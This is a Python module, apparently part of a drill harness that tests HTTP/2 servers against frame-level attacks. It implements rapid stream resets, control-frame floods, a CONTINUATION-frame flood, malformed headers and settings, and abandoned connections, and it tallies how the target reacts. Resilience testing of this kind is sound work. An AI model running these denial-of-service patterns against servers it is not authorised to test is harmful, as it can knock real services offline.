"""Attacks with frames: rapid resets, floods, frames that are broken, and calls that are abandoned."""

import asyncio
import struct
from contextlib import suppress
from random import Random

from drills.attacks import calls
from drills.attacks.good import GET
from drills.attacks.spoiled import Spoiled
from drills.attacks.tally import Tally
from drills.raw_http2.connection import RawConnection
from drills.raw_http2.frames import (
    CANCEL,
    END_HEADERS,
    END_STREAM,
    Frame,
    frame,
    header_block,
    message,
    request_fields,
)

RESETS = 100  # calls that are begun and broken off in one go
ANSWER_SECONDS = 5.0  # for a connection that something broken was sent on
# Kinds that nobody uses any more.
PRIORITY, PUSH_PROMISE, UNKNOWN = 0x2, 0x5, 0xEE
FLOODS = (
    frame(Frame.PING, 0, 0, b"12345678"),
    frame(Frame.SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)),
    frame(Frame.SETTINGS, 0, 0, struct.pack(">HI", 1, 0) + struct.pack(">HI", 1, 2**31)),
    frame(Frame.WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")),
    frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"),
    frame(UNKNOWN, 0, 0, b"x" * 100),
    frame(Frame.RST_STREAM, 0, 1, b"\0\0\0\x08"),
)
FLOOD = 200  # frames of one kind


class FrameAttacks:
    """Does one attack at a time; each method returns how many requests it was."""

    def __init__(self, target: str, chance: Random, spoiled: Spoiled, tally: Tally) -> None:
        self._target = target
        self._chance = chance
        self._spoiled = spoiled
        self._tally = tally

    async def resets(self, connection: RawConnection) -> int:
        """Begins calls and breaks them off, at every point of a call's way."""
        for _ in range(RESETS):
            method = self._spoiled.method()
            body = message(self._spoiled.body(method))
            part = self._chance.choice([None, body[:7], body])
            stream, _ = connection.begin(request_fields(method))
            if part is not None:
                connection.send(frame(Frame.DATA, END_STREAM if part == body else 0, stream, part))
            connection.reset(stream, self._chance.choice([0, CANCEL, 2, 2**32 - 1]))
        await connection.flush()
        self._tally.came("rapid resets", "reset", RESETS)
        # A server may have had enough of the connection by then.
        await calls.make_one(connection, "after rapid resets", (request_fields(GET), message(b"")), self._tally, may_break=True)
        return RESETS + 1

    async def floods(self, _: RawConnection) -> int:
        return await self._on_one_of_its_own("floods", self._chance.choice(FLOODS) * FLOOD)

    async def broken_frames(self, _: RawConnection) -> int:
        block = header_block(request_fields(self._spoiled.method()))
        broken = self._chance.choice(
            [
                frame(Frame.HEADERS, 0, 1, block) + frame(Frame.CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 3000,
                frame(Frame.HEADERS, END_HEADERS, 2, block),
                frame(Frame.HEADERS, END_HEADERS, 0, block),
                frame(Frame.HEADERS, END_HEADERS, 1, b"\xff\xff\xff\xff\xff\xff"),
                frame(Frame.HEADERS, END_HEADERS, 1, b"\xbe" * 500),
                frame(Frame.HEADERS, END_HEADERS | 0x8, 1, b"\xff" + block),
                frame(Frame.HEADERS, END_HEADERS, 1, block) + frame(Frame.DATA, 0, 1, b"x" * 16_384) * 40,
                frame(Frame.DATA, 0, 1, b"x" * 10),
                frame(Frame.WINDOW_UPDATE, 0, 0, (2**31 - 1).to_bytes(4, "big")) * 2,
                frame(Frame.WINDOW_UPDATE, 0, 0, b"\0\0\0\0"),
                frame(Frame.PING, 0, 0, b"short"),
                frame(Frame.SETTINGS, 0, 0, b"odd"),
                frame(Frame.SETTINGS, 0, 0, struct.pack(">HI", 5, 1)),
                frame(Frame.CONTINUATION, 0, 1, block),
                frame(PUSH_PROMISE, END_HEADERS, 1, b"\0\0\0\2" + block),
                b"\xff\xff\xff" + self._chance.randbytes(60),
                self._chance.randbytes(200),
            ]
        )
        return await self._on_one_of_its_own("broken frames", broken)

    async def _on_one_of_its_own(self, kind: str, data: bytes) -> int:
        """Sends bytes on a new connection and looks whether it, or its end, is there afterwards."""
        async with RawConnection(self._target) as connection:
            connection.send(data)
            call = connection.call(request_fields(GET), message(b""))
            try:
                self._tally.answered(kind, await asyncio.wait_for(call, ANSWER_SECONDS), may_break=True)
            except TimeoutError:
                self._tally.came(kind, "left alone")  # it waits for the rest of a frame
        return 1

    async def abandoned(self, _: RawConnection) -> int:
        """Hangs up in the middle of headers, of a message, of an answer, or of something that is not HTTP/2."""
        connection = RawConnection(self._target)
        with suppress(OSError):
            await connection.open(preface=self._chance.random() < 0.8)
            method = self._spoiled.method()
            body = message(self._spoiled.body(method))
            whole = frame(Frame.HEADERS, END_HEADERS, 1, header_block(request_fields(method)))
            whole += frame(Frame.DATA, END_STREAM, 1, body)
            other = [
                b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
                b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
                self._spoiled.bytes_of(100),
            ]
            connection.send(self._chance.choice([whole, whole[: self._chance.randrange(len(whole))], *other]))
            await connection.flush()
            await asyncio.sleep(self._chance.choice([0.0, 0.005, 0.02]))
        await connection.close()
        self._tally.came("abandoned", "abandoned")
        return 1
